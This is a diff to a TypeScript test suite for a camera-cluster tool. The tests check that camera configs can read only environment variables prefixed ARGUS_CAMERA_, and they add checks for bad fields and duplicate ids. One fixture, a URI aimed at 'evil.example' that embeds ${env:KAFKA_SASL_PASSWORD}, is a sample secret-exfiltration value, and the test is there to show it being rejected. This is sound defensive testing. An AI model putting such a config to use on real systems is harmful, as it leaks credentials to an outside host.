@@ -74,8 +74,27 @@ describe('ClusterView: claims, releases and camera records (what a new owner wai
 
   it('${env:} references in a camera resolve from the worker’s environment; a missing one is the camera’s error, not the worker’s', async () => {
     const { parseCamera } = await import('../../src/cluster/view.js');
-    const text = JSON.stringify({ id: 'd', uri: 'rtsp://u:${env:CAM_PW}@h/x' });
-    expect(parseCamera('d', text, { CAM_PW: 's3cret' }).definition!.source.uri).toBe('rtsp://u:s3cret@h/x');
-    expect(parseCamera('d', text, {}).error).toMatch(/CAM_PW/);
+    const text = JSON.stringify({ id: 'd', uri: 'rtsp://u:${env:ARGUS_CAMERA_PW}@h/x' });
+    expect(parseCamera('d', text, { ARGUS_CAMERA_PW: 's3cret' }).definition!.source.uri).toBe('rtsp://u:s3cret@h/x');
+    expect(parseCamera('d', text, {}).error).toMatch(/ARGUS_CAMERA_PW/);
+    // any other variable of the worker stays private: a topic writer cannot send it anywhere
+    const leak = JSON.stringify({ id: 'd', uri: 'rtsp://evil.example/${env:KAFKA_SASL_PASSWORD}' });
+    expect(parseCamera('d', leak, { KAFKA_SASL_PASSWORD: 'p' })).toEqual({ error: expect.stringMatching(/KAFKA_SASL_PASSWORD.*only ARGUS_CAMERA_\*/) });
+  });
+});
+
+describe('argus cameras apply: the file is checked before anything is written', () => {
+  it('a camera reading a variable without the ARGUS_CAMERA_ prefix, a bad field, a duplicate id: coded errors naming the file and the camera', async () => {
+    const { mkdtempSync, writeFileSync } = await import('node:fs');
+    const { tmpdir } = await import('node:os');
+    const { join } = await import('node:path');
+    const { readCamerasFile } = await import('../../src/cluster/admin.js');
+    const dir = mkdtempSync(join(tmpdir(), 'argus-cams-'));
+    const file = (name: string, text: string) => (writeFileSync(join(dir, name), text), join(dir, name));
+    await expect(readCamerasFile(file('leak.yaml', 'cameras:\n  - { id: a, uri: "rtsp://x/${env:HOME}" }\n'))).rejects.toMatchObject({ code: 'VAP_ERR_CONFIG', message: expect.stringMatching(/leak\.yaml: cameras\[0\]: \$\{env:HOME\}/) });
+    await expect(readCamerasFile(file('bad.yaml', 'cameras:\n  - { id: a, uri: rtsp://x, fps: -2 }\n'))).rejects.toMatchObject({ message: expect.stringMatching(/bad\.yaml.*cameras\[0\]\.fps/s) });
+    await expect(readCamerasFile(file('dup.yaml', 'cameras:\n  - { id: a, uri: rtsp://x }\n  - { id: a, uri: rtsp://y }\n'))).rejects.toMatchObject({ message: expect.stringMatching(/dup\.yaml: cameras\[1\]\.id: duplicate camera id "a"/) });
+    const ok = await readCamerasFile(file('ok.yaml', 'cameras:\n  - { id: a, uri: "rtsp://u:${env:ARGUS_CAMERA_A_PW}@x/1", cost: 2 }\n'));
+    expect(ok).toEqual([{ id: 'a', value: JSON.stringify({ id: 'a', uri: 'rtsp://u:${env:ARGUS_CAMERA_A_PW}@x/1', cost: 2 }) }]); // stored as written
   });
 });
